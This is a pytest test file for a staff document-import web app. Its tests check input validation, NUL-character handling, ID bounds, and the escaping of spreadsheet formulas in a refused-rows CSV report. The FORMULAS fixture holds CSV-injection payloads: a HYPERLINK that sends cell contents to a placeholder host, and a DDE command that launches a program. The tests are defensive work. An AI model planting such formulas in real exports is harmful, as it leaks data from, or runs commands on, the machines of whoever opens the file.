"""Bad input on the staff's document pages gets a 4xx or is left out, never a 500; the file of
refused rows opens in a spreadsheet as text, formulas included."""

import csv
import io

import pytest
import sqlalchemy as sa

from delivery.core.extensions import db
from delivery.models import Document, ImportReport
from tests.delivery.intake.rows import csv_bytes, valid_row
from tests.delivery.web.staff.test_documents_pages import post_form

FORMULAS = {
    "street": '=HYPERLINK("http://contoh.test/?"&A1,"Klik")',
    "village": "+1+cmd|' /C calc'!A0",
    "district": "-2+3",
    "regency": "@SUM(1+1)",
    "province": "\tLampung",
}


def import_file(client, content: bytes, name: str = "ekspor.csv"):
    data = {"file": (io.BytesIO(content), name), "mode": "good_rows"}
    return post_form(client, "/staff/documents/import", data, content_type="multipart/form-data")


def refused_rows(client) -> list[dict[str, str]]:
    report_id = db.session.scalar(sa.select(ImportReport.id))
    text = client.get(f"/staff/import-reports/{report_id}.csv").get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def test_cells_a_spreadsheet_would_run_come_back_as_text(staff_client):
    import_file(staff_client, csv_bytes([valid_row(1, postal_code="341", **FORMULAS)]))
    [row] = refused_rows(staff_client)
    assert {name: row[name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()
    }
    assert row["recipient_phone"] == "0812-3456-7890" and row["postal_code"] == "341"


def test_the_fixed_file_is_read_without_the_apostrophes(staff_client):
    phone = "+62 812-3456-7890"
    import_file(staff_client, csv_bytes([valid_row(1, postal_code="341", recipient_phone=phone)]))
    [row] = refused_rows(staff_client)
    assert row["recipient_phone"] == "'" + phone
    fixed = row | {"postal_code": "34163"}
    import_file(staff_client, csv_bytes([fixed]))
    assert db.session.scalar(sa.select(Document.recipient_phone)) == "+6281234567890"


def test_a_nul_character_in_a_cell_is_refused_and_kept_visible_in_the_report(staff_client):
    response = import_file(
        staff_client, csv_bytes([valid_row(1, street="Jl. A\x00B")]), "a\x01.csv"
    )
    assert response.status_code == 422  # the file's only row was refused: nothing stored
    assert "1 baris ditolak." in response.get_data(as_text=True)
    [row] = refused_rows(staff_client)
    assert row["street"] == "Jl. A\ufffdB"
    assert db.session.scalar(sa.select(ImportReport.filename)) == "a?.csv"


@pytest.mark.parametrize(
    "query", ["q=a%00b", "village=%00", "status=ready%00", "document_type=kk&village=Desa%00"]
)
def test_a_nul_character_in_the_list_address_is_refused_naming_it(staff_client, query):
    response = staff_client.get(f"/staff/documents?{query}")
    assert response.status_code == 400


def test_searches_and_pages_beyond_the_list_show_the_list(staff_client, make_document):
    make_document(holder_name="Sari Wulandari")
    assert staff_client.get("/staff/documents?page=99999999999999999999").status_code == 200
    response = post_form(
        staff_client, "/staff/documents/search", {"q": "sari", "status": "hilang", "village": "x"}
    )
    assert response.status_code == 200
    assert post_form(staff_client, "/staff/documents/search", {"nik": "1\x002"}).status_code == 400


def test_ids_that_no_document_can_have_select_nothing(staff_client, make_document):
    document = make_document()
    for value in ["²", "٣", "99999999999999999999", "-1", str(2**31)]:
        response = post_form(
            staff_client, "/staff/documents/bulk", {"document_id": value, "action": "mark_ready"}
        )
        assert response.status_code == 400, value
    db.session.refresh(document)
    assert document.status.value == "recorded"
    assert staff_client.get("/staff/import-reports/99999999999.csv").status_code == 404
